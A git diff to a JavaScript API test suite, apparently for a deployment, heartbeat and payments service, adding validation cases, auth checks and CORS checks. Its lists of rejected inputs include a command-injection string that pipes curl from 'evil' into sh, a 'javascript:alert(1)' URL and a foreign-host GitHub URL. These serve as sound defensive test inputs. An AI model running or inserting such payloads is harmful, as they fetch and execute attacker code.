@@ -10,7 +10,7 @@ import { setImmediate } from "node:timers/promises";
 import { startAitmpl, startRawGithub, startSkillsmp } from "./fakes/skills.js";
 import { conforming } from "./contract.js";
 import { problem, rowCounts, startWorker } from "./harness.js";
-import { named, pathOf, ROUTES } from "./routes.js";
+import { named, pathOf, ROUTES, rowOf } from "./routes.js";
 
 const ADMIN_TOKEN = "operators-own-token-4711";
 const PAGE = "https://hatch.example";
@@ -20,8 +20,8 @@ after(() => Promise.all(sources.map((source) => source.close())));
 const [AITMPL_BASE_URL, SKILLSMP_BASE_URL, RAW_GITHUB_BASE_URL] = sources.map((source) => source.url);
 const SOURCES = { AITMPL_BASE_URL, SKILLSMP_BASE_URL, RAW_GITHUB_BASE_URL };
 
-const development = await startWorker({ ...SOURCES, ADMIN_TOKEN, CORS_ORIGINS: `${PAGE}, http://localhost:3000/` });
-const production = await startWorker({ ...SOURCES, ENVIRONMENT: "production" });
+const development = await startWorker({ ...SOURCES, ADMIN_TOKEN, SEALING_KEY: "0f".repeat(32), CORS_ORIGINS: `${PAGE}, http://localhost:3000/` });
+const production = await startWorker({ ...SOURCES, ENVIRONMENT: "production", RATE_LIMITS: "off" });
 
 const patterns = [...new Set(ROUTES.map((route) => route.pattern))];
 const methodsOf = (pattern) => ROUTES.filter((route) => route.pattern === pattern).map((route) => route.method);
@@ -39,6 +39,17 @@ const NOT_CODE = [
   { "a.txt": "", "A.txt": "" }, { a: "", "a/b": "" }, { "a.txt": '"'.repeat(480_000) },
   '{"a.txt":"\\u0000"}', '{"a.txt":"\\ud800"}',
 ];
+
+const WALLET = `0x${"ab".repeat(20)}`;
+const NOT_WALLETS = [...NOT_TEXT, "", "0x", WALLET.slice(2), `${WALLET}0`, `0x${"aB".repeat(20)}`, "';curl evil|sh;'"];
+const NOT_TIMES = [...NOT_TEXT, "", "now", "2026-01-01", "2026-13-01T00:00:00Z"];
+const VARS = { good: { KEY: "value" }, bad: [1, true, "", [], { "1A": "x" }, { A: 1 }, { A: null }] };
+const BEAT = {
+  walletAddress: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
+  timestamp: { required: true, good: new Date().toISOString(), bad: [...NOT_TIMES, null] },
+  system: { good: { cpus: 4 }, bad: [1, true, "", [], { a: long(5000) }] },
+  hostname: { good: "rack-1", bad: [...NOT_TEXT, "", long(254)] },
+};
 
 /** Each field of each body: what is right, and what is wrong with a 400 that points to it. */
 const BODIES = {
@@ -77,7 +88,45 @@ const BODIES = {
     target: { good: "edge", bad: [...NOT_TEXT, "", "EDGE", "moon"] },
     code: { good: CODE, bad: NOT_CODE },
   },
+  "POST /deployments": {
+    name: { required: true, good: "an-app", bad: [...NOT_TEXT, null, "", "-app", "App", "a_b", long(21)] },
+    github: { required: true, good: "https://github.com/acme/app", bad: [...NOT_TEXT, null, "", "https://evil.example/acme/app", "http://github.com/acme/app"] },
+    creator: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
+    port: { good: 3000, bad: ["3000", 0, -1, 1.5, 65_536, true, {}, []] },
+    branch: { good: "main", bad: [...NOT_TEXT, "", "a b", long(256)] },
+    replicas: { good: 1, bad: ["1", 0, 11, 1.5, true, {}, []] },
+    envVars: VARS,
+  },
+  "PATCH /deployments/{name}/status": {
+    status: { required: true, good: "processing", bad: [...NOT_TEXT, null, "", "PENDING", "done"] },
+    url: { good: "https://app.example/", bad: [...NOT_TEXT, "", "javascript:alert(1)", "ftp://x"] },
+    errorMessage: { good: "It broke", bad: [...NOT_TEXT, "", long(2001)] },
+  },
+  "PATCH /deployments/{name}/env": { envVars: { required: true, ...VARS }, port: { good: 3000, bad: ["3000", 0, 65_536, true, {}, []] } },
+  "PATCH /deployments/{name}/replicas": { replicas: { required: true, good: 2, bad: ["1", 0, 11, 1.5, null, true, {}, []] } },
+  "POST /heartbeat": {
+    ...BEAT,
+    containers: { required: true, good: [{ containerName: "web", port: "80" }], bad: [1, true, "", null, {}, [1], [{}], [{ containerName: "" }], Array(501).fill({ name: "x" })] },
+  },
+  "POST /heartbeat/ping": BEAT,
+  "POST /workers": {
+    message: { good: "hatch.example wants you", bad: [...NOT_TEXT, long(4097)] },
+    signature: { good: "0x", bad: [...NOT_TEXT, long(1025)] },
+    walletAddress: { good: WALLET, bad: [...NOT_TEXT, long(43)] },
+  },
+  "POST /payments": {
+    name: { required: true, good: "Rent", bad: [...NOT_TEXT, null, "", long(256)] },
+    amount: { required: true, good: "1", bad: [...NOT_TEXT, null, "", "01", "-1", "1.5", "0x1", long(79)] },
+    creator: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
+    txHash: { good: `0x${"ab".repeat(32)}`, bad: [...NOT_TEXT, "", "0x1", "ab".repeat(32)] },
+  },
+  "POST /payments/payouts": {
+    walletAddress: { required: true, good: WALLET, bad: [...NOT_WALLETS, null] },
+    from: { required: true, good: "2026-01-01T00:00:00Z", bad: [...NOT_TIMES, null] },
+    to: { required: true, good: "2026-01-02T00:00:00Z", bad: [...NOT_TIMES, null] },
+  },
 };
+const bodyOf = (route) => BODIES[rowOf(route)];
 
 const goodBody = (fields) => Object.fromEntries(Object.entries(fields).map(([name, { good }]) => [name, good]));
 
@@ -87,9 +136,9 @@ function withField(fields, name, json) {
   return `{${parts.join(",")}}`;
 }
 
-/** Every route that reads a body, with its fields and with a path where only the body can be wrong. */
-const WRITES = ROUTES.filter((route) => route.readsBody).map((route) => ({
-  route, path: pathOf(route, project.id), fields: BODIES[named(route)],
+/** Every row that reads a body, with its fields and with a path where only the body can be wrong. */
+const WRITES = ROUTES.filter((route) => route.readsBody && !route.under).map((route) => ({
+  route, path: pathOf(route, project.id), fields: bodyOf(route),
 }));
 
 // --- Asking, and what holds for every answer --------------------------------
@@ -128,10 +177,11 @@ const send = (method, path, body, headers = {}) =>
 function askRoute(worker, route, id, options = {}) {
   if (!route.readsBody) return ask(worker, route.method, pathOf(route, id), options);
   const headers = { ...JSON_TYPE, ...options.headers };
-  return ask(worker, route.method, pathOf(route, id), { ...options, headers, body: JSON.stringify(goodBody(BODIES[named(route)])) });
+  return ask(worker, route.method, pathOf(route, id), { ...options, headers, body: JSON.stringify(goodBody(bodyOf(route))) });
 }
 
-const isSignIn = (route) => route.pattern.startsWith("/auth/wallet/");
+/** Whether the proof of who calls is in the body. */
+const isSignIn = (route) => route.pattern.startsWith("/auth/wallet/") || rowOf(route) === "POST /workers";
 
 /** Runs `requests`, which may not add or remove a row of any table. */
 async function changingNothing(worker, requests) {
@@ -196,9 +246,10 @@ test("An unknown id is 404, however odd it is", () =>
       "%ff%fe", "%", "%zz", "a%0d%0ab", "a&b", "a=b", "+", `${project.id}&x`, `${project.id}=`, `${project.id}%20`, `${project.id}%00`,
     ];
     for (const route of ROUTES.filter((route) => route.pattern.includes("{"))) {
-      for (const id of odd) {
+      for (const id of route.under ? odd.slice(0, 3) : odd) {
         const response = await askRoute(development, route, id);
         if (route.hosted) assert.equal(response.status, route.pattern === "/p/{slug}" ? 308 : 404, `${named(route)} ${id}`);
+        else if (route.pattern.includes("{wallet}")) await problem(response, 400, "validation_failed");
         // A category is a filter: nothing is in one that is unknown.
         else if (route.pattern.endsWith("{category}")) assert.equal((await response.json()).total, 0);
         else await problem(response, 404, "not_found");
@@ -301,7 +352,7 @@ test("A query parameter that makes no sense is 400", () =>
   changingNothing(development, async () => {
     const limits = ["0", "101", "abc", "-1", "1.5", "", "99999999999999999999", "1e1", "%00", " 5"].map((limit) => ["limit", limit]);
     const cursors = ["garbage", "", "%00", "====", "🐣", Buffer.from("1").toString("base64url"), Buffer.from("-1.x").toString("base64url"), Buffer.from("1.\0").toString("base64url"), long(5000)].map((cursor) => ["cursor", cursor]);
-    const lists = ["/api/projects", `/api/projects/${project.id}/versions`, `/api/chat/${project.id}`, "/api/discovery", "/admin/jobs", "/admin/dead-letters"];
+    const lists = ["/api/projects", `/api/projects/${project.id}/versions`, `/api/chat/${project.id}`, "/api/discovery", "/admin/jobs", "/admin/dead-letters", "/deployments", "/workers", "/payments", `/workers/${WALLET}/uptime`];
     for (const path of lists) {
       for (const [name, value] of [...limits, ...cursors]) {
         const { errors } = await problem(await ask(development, "GET", `${path}?${name}=${value}`), 400, "validation_failed");
@@ -315,7 +366,7 @@ test("A query parameter that makes no sense is 400", () =>
 
 test("No query string makes a route fail", () =>
   changingNothing(development, async () => {
-    for (const route of ROUTES.filter((route) => route.method === "GET")) {
+    for (const route of ROUTES.filter((route) => route.method === "GET" && !route.under)) {
       for (const query of ["limit=abc", "cursor=%00", "page=-1", "q=%00%ff'%22", "sort=%F0%9F%90%A3", "category=%00", "type=%00", "format=%00", "&&=&", "%", long(4000)]) {
         await (await ask(development, "GET", `${pathOf(route, project.id)}?${query}`)).text();
       }
@@ -422,7 +473,7 @@ test("A preflight is 204, with a permission for the listed origins only", async 
 test("A page of a foreign origin changes nothing: 403 on every route that writes", () =>
   changingNothing(development, async () => {
     for (const route of ROUTES.filter((route) => route.method !== "GET")) {
-      for (const origin of FOREIGN) {
+      for (const origin of route.under ? FOREIGN.slice(0, 1) : FOREIGN) {
         await problem(await askRoute(development, route, project.id, { headers: { origin } }), 403, "origin_not_allowed");
       }
     }
@@ -445,7 +496,7 @@ test("A credential that is wrong is 401 everywhere, in development and on public
   for (const worker of [development, production]) {
     await changingNothing(worker, async () => {
       for (const route of ROUTES) {
-        for (const headers of wrong) {
+        for (const headers of route.under ? wrong.slice(0, 1) : wrong) {
           const response = await askRoute(worker, route, project.id, { headers });
           assert.equal(response.headers.get("www-authenticate"), 'Bearer error="invalid_token"', `${named(route)} ${JSON.stringify(headers)}`);
           await problem(response, 401, "unauthorized");
@@ -484,7 +535,7 @@ test("In production without secrets, nobody gets in and public routes answer", (
     for (const route of ROUTES) {
       const isOperators = ["Staff", "Operator"].includes(route.access);
       const response = await askRoute(production, route, "unknown", { allow: isOperators ? 503 : undefined });
-      if (/^User$|^Scope/.test(route.access)) {
+      if (/^User$|^Machine$|^Scope/.test(route.access)) {
         assert.equal(response.headers.get("www-authenticate"), "Bearer", named(route));
         await problem(response, 401, "unauthorized");
       } else if (isOperators) {
